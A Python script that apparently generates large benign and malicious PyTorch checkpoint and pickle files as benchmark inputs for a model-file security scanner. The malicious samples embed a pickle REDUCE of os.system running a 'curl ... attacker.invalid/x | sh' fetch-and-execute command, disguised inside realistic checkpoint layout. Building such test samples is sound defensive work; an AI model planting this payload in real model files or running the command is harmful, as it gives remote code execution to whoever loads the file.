#!/usr/bin/env python3
"""Deterministic generator of the large benchmark inputs for bench/scan.

    gen_large.py OUTDIR [--ckpt-mb N] [--vocab N] [--floats N] [--force]

Writes into OUTDIR:

  checkpoint-1g.pt            ~1 GB PyTorch checkpoint (torch.save zip layout), benign
  checkpoint-1g-malicious.pt  same tensors, data.pkl carries a posix.system REDUCE
  vocab-60m.pkl               ~60 MB opcode-dense protocol-4 pickle: {str: int} x ~1M
                              plus a list of ~5M floats (tokenizer / pickled-dataset shape)
  vocab-60m-malicious.pkl     same, with a posix.system REDUCE as the last value
  manifest.json               {"samples": [{path, verdict, technique, format, size}]}

torch is not needed: the checkpoint is written the way torch.save (zip serialization,
pickle protocol 2) writes it. `torch._utils._rebuild_tensor_v2` and `torch.FloatStorage`
are fake objects registered in sys.modules so that pickle emits the same GLOBAL opcodes,
and a Pickler.persistent_id returns ('storage', FloatStorage, key, 'cpu', numel) just as
torch does. Tensor bytes are stored uncompressed under archive/data/N, 64-byte aligned
(padding in a 'FB' extra field, as PyTorch's writer does), and are streamed to disk in
chunks, never held in memory.

Everything is seeded, so two runs produce byte-identical files. A stamp file records the
parameters and this script's hash; when it matches, existing files are kept (use --force
to rewrite).
"""

from __future__ import annotations

import argparse
import collections
import hashlib
import json
import os
import pickle
import random
import struct
import sys
import types
import zipfile
from pathlib import Path

SEED = 20240917
CHUNK_FLOATS = 1 << 20  # 4 MiB of float32 per write
ALIGN = 64
ZIP_DATE = (1980, 1, 1, 0, 0, 0)


# --------------------------------------------------------------------------------------
# Fake torch: just enough for pickle to emit torch's globals.
# --------------------------------------------------------------------------------------


def _install_fake_torch():
    torch = types.ModuleType("torch")
    utils = types.ModuleType("torch._utils")

    def _rebuild_tensor_v2(storage, storage_offset, size, stride, requires_grad, backward_hooks):
        raise RuntimeError("fake torch: never called")

    _rebuild_tensor_v2.__module__ = "torch._utils"
    _rebuild_tensor_v2.__qualname__ = "_rebuild_tensor_v2"
    utils._rebuild_tensor_v2 = _rebuild_tensor_v2

    class FloatStorage:  # noqa: D401 - a stand-in class, only referenced by name
        pass

    FloatStorage.__module__ = "torch"
    FloatStorage.__qualname__ = "FloatStorage"
    torch.FloatStorage = FloatStorage
    torch._utils = utils
    sys.modules.setdefault("torch", torch)
    sys.modules.setdefault("torch._utils", utils)
    return sys.modules["torch"], sys.modules["torch._utils"]


class _Storage:
    """A storage that only knows its key and element count."""

    def __init__(self, key: str, numel: int):
        self.key = key
        self.numel = numel


class _Tensor:
    def __init__(self, storage: _Storage, shape: tuple[int, ...]):
        self.storage = storage
        self.shape = shape

    def __reduce_ex__(self, protocol):
        torch_utils = sys.modules["torch._utils"]
        stride = []
        acc = 1
        for dim in reversed(self.shape):
            stride.append(acc)
            acc *= dim
        stride = tuple(reversed(stride))
        return (
            torch_utils._rebuild_tensor_v2,
            (self.storage, 0, self.shape, stride, False, collections.OrderedDict()),
        )


class _Payload:
    """A REDUCE of posix.system; never executed by this generator."""

    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command,))


class _TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, _Storage):
            torch = sys.modules["torch"]
            return ("storage", torch.FloatStorage, obj.key, "cpu", obj.numel)
        return None


# --------------------------------------------------------------------------------------
# Checkpoint
# --------------------------------------------------------------------------------------


def checkpoint_layout(target_mb: int) -> list[tuple[str, tuple[int, ...]]]:
    """A small decoder-only transformer whose fp32 weights add up to about target_mb."""
    vocab, hidden, ffn = 32000, 1536, 6144
    per_layer = 4 * hidden * hidden + 2 * hidden * ffn + 2 * hidden
    embed = vocab * hidden
    layers = max(1, round((target_mb * 1_000_000 / 4 - embed) / per_layer))
    tensors: list[tuple[str, tuple[int, ...]]] = [("model.embed_tokens.weight", (vocab, hidden))]
    for i in range(layers):
        p = f"model.layers.{i}"
        tensors += [
            (f"{p}.input_layernorm.weight", (hidden,)),
            (f"{p}.self_attn.q_proj.weight", (hidden, hidden)),
            (f"{p}.self_attn.k_proj.weight", (hidden, hidden)),
            (f"{p}.self_attn.v_proj.weight", (hidden, hidden)),
            (f"{p}.self_attn.o_proj.weight", (hidden, hidden)),
            (f"{p}.post_attention_layernorm.weight", (hidden,)),
            (f"{p}.mlp.up_proj.weight", (ffn, hidden)),
            (f"{p}.mlp.down_proj.weight", (hidden, ffn)),
        ]
    tensors.append(("model.norm.weight", (hidden,)))
    return tensors


def _numel(shape: tuple[int, ...]) -> int:
    n = 1
    for d in shape:
        n *= d
    return n


def _float_chunks(seed: int, numel: int, is_norm: bool):
    """Yield the little-endian float32 bytes of one tensor, in chunks."""
    if is_norm:
        one = struct.pack("<f", 1.0)
        left = numel
        while left:
            n = min(left, CHUNK_FLOATS)
            yield one * n
            left -= n
        return
    try:
        import numpy as np  # the bench venv has it; the fallback is only slower
    except ImportError:  # pragma: no cover
        np = None
    if np is not None:
        rng = np.random.default_rng(seed)
        left = numel
        while left:
            n = min(left, CHUNK_FLOATS)
            arr = rng.standard_normal(n, dtype=np.float32)
            arr *= np.float32(0.02)
            yield arr.astype("<f4", copy=False).tobytes()
            left -= n
    else:
        rng = random.Random(seed)
        left = numel
        while left:
            n = min(left, CHUNK_FLOATS)
            yield struct.pack(f"<{n}f", *(rng.gauss(0.0, 0.02) for _ in range(n)))
            left -= n


def _zinfo(zf: zipfile.ZipFile, name: str) -> zipfile.ZipInfo:
    """A stored entry whose data starts on a 64-byte boundary (torch's 'FB' padding)."""
    zi = zipfile.ZipInfo(name, date_time=ZIP_DATE)
    zi.compress_type = zipfile.ZIP_STORED
    zi.create_system = 0
    offset = zf.fp.tell()
    base = offset + 30 + len(name.encode()) + 4
    pad = (-base) % ALIGN
    zi.extra = struct.pack("<HH", 0x4246, pad) + b"Z" * pad
    return zi


def _write_bytes(zf: zipfile.ZipFile, name: str, data: bytes) -> None:
    with zf.open(_zinfo(zf, name), mode="w") as w:
        w.write(data)


def write_checkpoint(path: Path, target_mb: int, malicious: bool) -> None:
    _install_fake_torch()
    layout = checkpoint_layout(target_mb)
    state = collections.OrderedDict()
    storages = []
    for key, (name, shape) in enumerate(layout):
        st = _Storage(str(key), _numel(shape))
        storages.append((st, name))
        state[name] = _Tensor(st, shape)
    state._metadata = collections.OrderedDict([("", {"version": 1})])
    if malicious:
        state["model.lm_head.weight"] = _Payload("curl -s http://attacker.invalid/x | sh")

    import io

    buf = io.BytesIO()
    _TorchPickler(buf, protocol=2).dump(state)
    data_pkl = buf.getvalue()

    tmp = path.with_suffix(path.suffix + ".tmp")
    with open(tmp, "wb") as fh, zipfile.ZipFile(fh, mode="w", allowZip64=True) as zf:
        _write_bytes(zf, "archive/data.pkl", data_pkl)
        _write_bytes(zf, "archive/.format_version", b"1")
        _write_bytes(zf, "archive/.storage_alignment", b"64")
        _write_bytes(zf, "archive/byteorder", b"little")
        for st, name in storages:
            is_norm = name.endswith("layernorm.weight") or name == "model.norm.weight"
            with zf.open(_zinfo(zf, f"archive/data/{st.key}"), mode="w", force_zip64=False) as w:
                for chunk in _float_chunks(SEED + int(st.key), st.numel, is_norm):
                    w.write(chunk)
        _write_bytes(zf, "archive/version", b"3\n")
        _write_bytes(zf, "archive/.data/serialization_id", b"1234567890123456789012345678901234567890")
    os.replace(tmp, path)


# --------------------------------------------------------------------------------------
# Opcode-dense pickle
# --------------------------------------------------------------------------------------

_ALPHABET = "abcdefghijklmnopqrstuvwxyz"


def _vocab(n: int) -> dict[str, int]:
    rng = random.Random(SEED)
    out: dict[str, int] = {}
    prefixes = ["", "\u0120", "##", "\u2581"]  # GPT-2 'Ġ', WordPiece '##', SentencePiece '▁'
    i = 0
    while len(out) < n:
        length = rng.randint(2, 10)
        tok = rng.choice(prefixes) + "".join(rng.choice(_ALPHABET) for _ in range(length))
        if tok not in out:
            out[tok] = i
            i += 1
    return out


def write_vocab_pickle(path: Path, entries: int, floats: int, malicious: bool) -> None:
    vocab = _vocab(entries)
    rng = random.Random(SEED + 1)
    scores = [rng.random() * -20.0 for _ in range(floats)]
    obj: dict[str, object] = {"vocab": vocab, "scores": scores}
    if malicious:
        obj["postprocess"] = _Payload("curl -s http://attacker.invalid/x | sh")
    tmp = path.with_suffix(path.suffix + ".tmp")
    with open(tmp, "wb") as fh:
        pickle.dump(obj, fh, protocol=4)
    os.replace(tmp, path)


# --------------------------------------------------------------------------------------


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("outdir", type=Path)
    ap.add_argument("--ckpt-mb", type=int, default=1000, help="checkpoint size target (MB)")
    ap.add_argument("--vocab", type=int, default=1_000_000, help="vocabulary entries")
    ap.add_argument("--floats", type=int, default=5_000_000, help="floats in the list")
    ap.add_argument("--force", action="store_true", help="rewrite even if the stamp matches")
    args = ap.parse_args(argv)

    out: Path = args.outdir
    out.mkdir(parents=True, exist_ok=True)
    me = hashlib.sha256(Path(__file__).read_bytes()).hexdigest()
    stamp = json.dumps(
        {"script": me, "ckpt_mb": args.ckpt_mb, "vocab": args.vocab, "floats": args.floats},
        sort_keys=True,
    )
    samples = [
        ("checkpoint-1g.pt", "benign", "none", "pytorch-zip"),
        ("checkpoint-1g-malicious.pt", "malicious", "pickle-reduce-os-system", "pytorch-zip"),
        ("vocab-60m.pkl", "benign", "none", "pickle"),
        ("vocab-60m-malicious.pkl", "malicious", "pickle-reduce-os-system", "pickle"),
    ]
    stamp_file = out / ".stamp"
    if (
        not args.force
        and stamp_file.exists()
        and stamp_file.read_text() == stamp
        and all((out / s[0]).exists() for s in samples)
        and (out / "manifest.json").exists()
    ):
        print(f"gen_large: {out} is up to date", file=sys.stderr)
        return 0
    stamp_file.unlink(missing_ok=True)

    for name, verdict, _t, fmt in samples:
        print(f"gen_large: writing {name}", file=sys.stderr, flush=True)
        p = out / name
        if fmt == "pytorch-zip":
            write_checkpoint(p, args.ckpt_mb, verdict == "malicious")
        else:
            write_vocab_pickle(p, args.vocab, args.floats, verdict == "malicious")

    manifest = {
        "samples": [
            {
                "path": name,
                "verdict": verdict,
                "technique": technique,
                "format": fmt,
                "size": (out / name).stat().st_size,
            }
            for name, verdict, technique, fmt in samples
        ]
    }
    (out / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n")
    stamp_file.write_text(stamp)
    for s in manifest["samples"]:
        print(f"gen_large: {s['path']}: {s['size'] / 1e6:.1f} MB", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
